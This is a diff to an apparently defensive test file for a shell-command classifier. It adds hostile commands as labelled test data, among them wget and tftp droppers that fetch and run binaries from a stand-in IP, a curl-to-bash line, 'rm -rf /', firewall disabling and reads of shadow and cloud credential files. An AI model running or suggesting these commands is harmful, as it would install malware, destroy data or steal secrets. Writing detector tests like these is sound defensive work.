@@ -41,9 +41,29 @@ ACTS = [
     "nsenter -t 1 -m -u -i -n sh",
     "docker run -v /:/host -it alpine chroot /host sh",
     "echo '|/tmp/x' > /proc/sys/kernel/core_pattern",
+    "wget -O /tmp/.x/b.mips http://203.0.113.5/b.mips; chmod 777 /tmp/.x/b.mips; /tmp/.x/b.mips",
+    "cd /tmp wget http://203.0.113.5/x chmod 777 x ./x",
+    "echo -ne '\\x7f\\x45\\x4c\\x46\\x01' > /tmp/x",
+    "SuSEfirewall2 stop",
+    "rm -rf / --no-preserve-root",
+    "hive-passwd x",
+    "/system scheduler add name=x interval=10m on-event=y",
 ]  # fmt: skip
 
 SUSPECT = [
+    "echo -e '\\x67\\x61\\x79'",
+    "chmod 777 /tmp/.x/daemon.mipsel",
+    "curl -fsSL https://files.example.tk/core.sh | bash",
+    "tar xzvf holiday.jpg",
+    "perl notes.txt",
+    "wget files.example.tk/kit.tgz",
+    "cat /home/*/.ssh/known_hosts",
+    "find / -fstype nfs -o -fstype cifs -o -fstype smbfs -o -fstype nfs4 -prune",
+    "killall -9 xmrig",
+    "passwd",
+    "cat /proc/cpuinfo | grep name | wc -l",
+    "ls -la /dev/ttyGSM* /var/spool/sms",
+    "grep -E rw /proc/mounts",
     "cat /etc/shadow",
     "cat ~/.aws/credentials",
     "cat ~/.kube/config",
@@ -70,6 +90,8 @@ SUSPECT = [
 ]
 
 INNOCENT = [
+    "exec > >(tee /tmp/build.log) 2>&1",
+    "sudo tee /usr/local/bin/run < run",
     "ls -la",
     "git status",
     "grep -R authorized_keys .",
@@ -123,6 +145,12 @@ def test_ordinary_installers_are_weak(installer: str, most: float) -> None:
 
 
 SESSIONS = {
+    "Perl bot from free hosting": ["wget bots.example.tk/v.jpg", "perl v.jpg"],
+    "builds for small devices": ["mkdir /tmp/.x", "cat > /tmp/.x/d.mips", "chmod 777 /tmp/.x/d.mips"],
+    "test of the shell": ["echo -en '\\x67\\x61\\x79'", "cat /bin/ls", "uname -m"],
+    "a mark is left": ["cat /proc/cpuinfo | grep name | wc -l", "echo 321 > /var/tmp/.var0352", "w"],
+    "what an operator does not ask": ["top", "cat /proc/cpuinfo", "history"],
+    "every system's release file": ["uname -s -r -m -p", "cat /etc/slackware-version", "cat /etc/yellowdog-release"],
     "dropper, a step a line": ["cd /tmp", "wget http://203.0.113.5/b.sh", "chmod 777 b.sh", "sh b.sh", "rm -rf b.sh"],
     "several ways in": ["wget http://203.0.113.5/b.sh", "tftp 203.0.113.5 -c get b.sh", "sh b.sh"],
     "loader of a bot": ["enable", "system", "shell", "sh", "cat /proc/mounts; /bin/busybox QWERT"],
